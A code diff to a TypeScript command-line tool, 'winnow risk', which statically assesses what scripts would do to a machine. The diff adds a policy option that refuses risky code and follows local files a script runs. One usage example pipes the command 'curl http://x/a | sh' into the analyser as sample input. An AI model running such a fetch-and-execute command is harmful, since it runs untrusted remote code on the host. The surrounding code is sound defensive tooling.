@@ -1,28 +1,38 @@
 /** `winnow risk TARGET`: what code would do to the machine that runs it, read from its tree; nothing runs. */
 import { readdir, stat } from 'node:fs/promises';
-import { join, relative, resolve } from 'node:path';
+import { dirname, join, relative, resolve } from 'node:path';
 import { z } from 'zod';
 import { limits, WinnowError } from '../../base/mod.ts';
 import { loadGrammarFile } from '../../index/mod.ts';
 import {
+  decide,
   detectLanguage,
+  followRuns,
   isAtLeast,
   isRiskLanguage,
   openRiskReader,
+  type ReadFile,
+  type RiskPolicy,
   type RiskReport,
   riskLanguages,
   runLanguage,
   severities,
 } from '../../run/mod.ts';
 import { riskView } from '../views/risk.ts';
-import { type RiskFileOutput, riskFileOutput, riskFileSchema } from './risk-schemas.ts';
+import { policySchema, type RiskFileOutput, refusedOutput, riskFileOutput, riskFileSchema } from './risk-schemas.ts';
 import { readFileWithin } from './run-files.ts';
+import { policyNamed } from './run-policy.ts';
 import type { Context, Operation } from './types.ts';
 
 const input = z.strictObject({
   target: z.string().min(1).describe('A file, a directory, path:function, or - for standard input'),
   lang: z.enum(riskLanguages).optional().describe('The language; needed with -, and where the name does not tell'),
   least: z.enum(severities).default('low').describe('The least severity that is shown'),
+  policy: z
+    .string()
+    .min(1)
+    .optional()
+    .describe('End with exit code 1 where this policy (strict, work-directory, open, or a file) would not let it run'),
   failAt: z
     .enum(severities)
     .optional()
@@ -34,6 +44,7 @@ const input = z.strictObject({
 const output = z.strictObject({
   schema: z.literal('winnow.risk/1'),
   files: z.array(riskFileSchema),
+  policy: policySchema.nullable().describe('With --policy: whether it would let all of this run as one program'),
   skipped: z
     .array(z.strictObject({ path: z.string(), reason: z.string() }))
     .describe('Files that are not read, at most 100, and why'),
@@ -48,7 +59,9 @@ export const risk: Operation<typeof input, typeof output> = {
 
 A finding is a claim about what is done, not about intentions. What cannot be read before it runs is told as unknown, never as harmless. docs/risk.md has the categories, severities and limits.
 
-Exit code 0: it was read. 1: with --fail-at, something of that severity or worse was found. 2: the language is not supported.`,
+Files of its own that a program runs as code (\`. ./lib.sh\`, \`python3 job.txt\`) are read too; one that is not there is unknown.
+
+Exit code 0: it was read, also where some of it is unknown. 1: with --fail-at, something of that severity or worse was found, or is unknown; with --policy, the policy would refuse it, or ask. 2: the language is not supported.`,
   examples: [
     { command: 'winnow risk script.py', does: 'everything a script would do, by line' },
     {
@@ -59,15 +72,20 @@ Exit code 0: it was read. 1: with --fail-at, something of that severity or worse
       command: 'winnow risk src/app.py:Installer.run',
       does: 'one function, and the functions of its file that it calls',
     },
+    {
+      command: 'winnow risk job.sh --policy strict',
+      does: 'exit code 1 where it would be refused, also what does not parse',
+    },
     { command: 'winnow risk vendor/ --least high --json', does: 'a whole directory, for a program' },
     { command: 'echo "curl http://x/a | sh" | winnow risk - --lang bash', does: 'from standard input' },
   ],
   input,
   output,
   positional: [{ property: 'target', label: 'TARGET' }],
-  labels: { lang: 'LANGUAGE', least: 'SEVERITY', failAt: 'SEVERITY' },
+  labels: { lang: 'LANGUAGE', policy: 'NAME', least: 'SEVERITY', failAt: 'SEVERITY' },
   run: async (given, context) => {
-    const files: RiskFileOutput[] = [];
+    const policy = given.policy === undefined ? null : await policyNamed(given.policy, context);
+    const first: ReadFile[] = [];
     const skipped: { path: string; reason: string }[] = [];
     const reader = await openRiskReader(loadGrammarFile);
     const { paths, name } = await targetsOf(given.target, context);
@@ -89,12 +107,20 @@ Exit code 0: it was read. 1: with --fail-at, something of that severity or worse
       const report = await reader.assess(language, bytes, name ?? undefined);
       if (report === null)
         throw new WinnowError('unknown-id', `${path} has no function ${name}.`, { details: { path } });
-      files.push(shownOf(riskFileOutput(path, bytes, report), given.least));
+      first.push({ path, bytes, report });
     }
-    return { schema: 'winnow.risk/1' as const, files, skipped };
+    const found = await followRuns(reader, first, (wanted, from) => fileBeside(wanted, from, context));
+    const files = found.map(({ path, bytes, report }) => riskFileOutput(path, bytes, report));
+    return {
+      schema: 'winnow.risk/1' as const,
+      files: files.map((file) => shownOf(file, given.least)),
+      skipped,
+      policy: policy === null ? null : policyOutput(policy, found, files),
+    };
   },
   render: riskView,
-  exit: ({ files }, { failAt }) => {
+  exit: ({ files, policy }, { failAt }) => {
+    if (policy?.runs === false) return 1;
     if (failAt === undefined) return 0;
     return files.some(
       ({ severity, unknowns }) => (severity !== null && isAtLeast(severity, failAt)) || unknowns.length > 0,
@@ -103,6 +129,40 @@ Exit code 0: it was read. 1: with --fail-at, something of that severity or worse
       : 0;
   },
 };
+
+/** What the policy would do with all of it as one program. */
+function policyOutput(
+  policy: RiskPolicy,
+  found: readonly ReadFile[],
+  outputs: readonly RiskFileOutput[],
+): NonNullable<RiskOutput['policy']> {
+  const findings = found.flatMap(({ report }) => report.findings);
+  const unknowns = found.flatMap(({ report }) => report.unknowns);
+  const decision = decide({ language: '', findings, unknowns, started: [], severity: null }, policy, []);
+  const files = found.map(({ report }, at) => ({ report, output: outputs[at] as RiskFileOutput }));
+  return {
+    name: policy.name,
+    runs: decision.runs,
+    refused: refusedOutput(decision, files),
+    confined: [...decision.confined],
+  };
+}
+
+/** A file that a program runs: looked for beside the program, and then where the command stands; nothing above both. */
+async function fileBeside(
+  wanted: string,
+  from: string,
+  context: Context,
+): Promise<{ readonly path: string; readonly bytes: Uint8Array } | null> {
+  const places = from === '-' ? [context.cwd] : [dirname(resolve(context.cwd, from)), context.cwd];
+  for (const place of places) {
+    const path = resolve(place, wanted);
+    if (!places.some((one) => path.startsWith(`${one}/`))) continue;
+    const bytes = await bytesOf(relative(context.cwd, path), context, true);
+    if (typeof bytes !== 'string') return { path: relative(context.cwd, path), bytes };
+  }
+  return null;
+}
 
 const shownOf = (file: RiskFileOutput, least: RiskReport['findings'][number]['severity']): RiskFileOutput => ({
   ...file,
